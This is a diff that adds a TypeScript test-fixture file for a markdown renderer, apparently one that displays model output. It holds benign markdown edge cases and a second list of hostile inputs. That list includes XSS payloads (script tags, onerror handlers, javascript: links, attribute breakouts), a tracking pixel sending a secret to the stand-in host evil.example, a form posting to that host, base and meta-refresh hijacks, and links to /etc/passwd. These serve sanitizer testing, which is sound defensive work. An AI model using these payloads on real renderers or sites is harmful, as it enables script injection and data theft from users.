@@ -1,0 +1,45 @@
+/** Markdown as models write it. */
+
+export const markdownSamples: readonly string[] = [
+  "A paragraph\nof two lines.\n\nAnother with `code`, **strong**, *emphasis* and ~~struck~~ words.",
+  "# One\n\ntext\n\n### Three\n\ntext\n\n## Two\n\nSetext\n======\n\nunder\n-----\n\nend",
+  "1. a\n\n2. b\n\n   inside\n\n3. c\n\nafter",
+  "- a\n- b\n  - c\n\n    deep\n\n  - d\n\n* other list\n\n---\n\n**not a list**",
+  "- a\n\n  ```ts\n  const inList = 1;\n\n  ```\n\n- b\n\n> quote\n> > deeper\nlazy\n\n> ```\n> code in quote\n> ```",
+  "| a | b |\n|:--|--:|\n| 1 | 2 |\n| 3 | `x` |\n\nafter | the\n\ntext\na | b\n--|:-:\n1 | 2",
+  "```ts src/a.ts\nconst a = 1;\n\n\nconst b = `x`;\n```\n\n~~~\nplain\n~~~\n\n    indented\n\n    code\n\n```py\nunfinished = 1",
+  "A [late][ref] link and ![a picture](https://example.com/p.png), https://example.com/auto.\n\n[ref]: https://example.com/late\n\nafter [ref]",
+  "[early]: https://example.com/e 'title'\n\n[early] and [early][] and [x][early]\n\n[early]: https://example.com/second\n\nstill [early]",
+  "snake_case_name and 2 * 3 * 4 and a\\\nbreak  \nhard &amp; &lt; <b>tag</b> \\*escaped\\*",
+  "windows\r\nlines\r\n\r\n- a\r\n\r\n- b\r\n\r\n```\r\ncode\r\n```\r\nend\rmac\r\rpara",
+  "1) x\n2) y\n\n1. new\n\n\n\n10. ten\n\n+ plus\n\n\n  still plus\n\nnot",
+  "Term\n:   no definition lists\n\n* * *\n\n- \n- empty\n\n-\n\n\ttab\n\n- x\n\ty",
+  "Emoji 👩‍👩‍👧 and 漢字 and \u0000 nul\n\n> a\n\n> b\n\n[broken](\n\nend [",
+];
+
+/** Markdown that tries to run, fetch, post, style or navigate. */
+export const hostileMarkdown: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<iframe src='https://evil.example'></iframe>",
+  "<svg onload=alert(1)><use href='data:x'/></svg>",
+  "<form action='https://evil.example'><input name=a><button>go</button></form>",
+  "<style>@import 'https://evil.example';</style>",
+  "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
+  "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](&#106;avascript:alert(1))",
+  "[x](command:workbench.action.quit) <command:workbench.action.quit> [v](vscode://file/etc/passwd)",
+  "[x](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
+  "![pixel](https://evil.example/p.png?secret) [![in a link](https://evil.example/q.png)](https://example.com)",
+  "[x](https://example.com 'a\" onmouseover=\"alert(1)')",
+  '[x](https://example.com/"onmouseover="alert(1))',
+  '!["><script>alert(1)</script>](https://evil.example/p.png)',
+  '```"><img src=x onerror=alert(1)>\ncode </code></pre><script>alert(1)</script>\n```',
+  '```html style="x" title="<b>.ts"\n<script>alert(1)</script>\n```',
+  "| <img src=x onerror=alert(1)> | b |\n|:-:|-|\n| [x](javascript:alert(1)) | <style>*{}</style> |",
+  '> - <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>\n> - <noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "[a]: javascript:alert(1)\n\n[a] [b][a]\n\n[//]: # (comment)",
+  "<base href='https://evil.example'><link rel=stylesheet href='https://evil.example'><meta http-equiv=refresh content='0'>",
+  "file:///etc/passwd //evil.example/x ftp://evil.example <file:///etc/passwd> <mailto:a@example.com>",
+  "# <object data=x></object><embed src=x><video src=x onerror=alert(1)></video>",
+  "<div style='position:fixed;inset:0' id=app class=sy-chat data-act=insert>over everything</div>",
+];
